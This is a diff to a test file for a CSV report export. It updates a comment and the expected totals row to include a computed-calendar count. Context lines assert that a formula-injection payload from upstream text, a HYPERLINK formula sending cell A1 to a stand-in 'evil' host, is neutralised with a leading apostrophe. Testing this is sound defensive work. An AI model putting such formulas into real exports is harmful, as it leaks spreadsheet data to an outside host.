@@ -89,9 +89,10 @@ describe('Report outputs with hostile upstream text', () => {
     expect(agencyRow).toContain(`,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`);
     const fieldRow = csv.split('\r\n').find((line) => line.startsWith('FIELD,')) as string;
     expect(fieldRow).toContain(`,G15-HT,"'=HYPERLINK(`);
-    // Total: 3 to resolve (3 online), 2 resolved (1 early, 1 late), 1 unresolved and overdue.
+    // Total: 3 to resolve (3 online), 2 resolved (1 early, 1 late), 1 unresolved and overdue;
+    // all 3 on a computed calendar (this test loads no official schedule).
     expect(csv.split('\r\n').at(-2)).toBe(
-      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0',
+      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0,3',
     );
   });
 
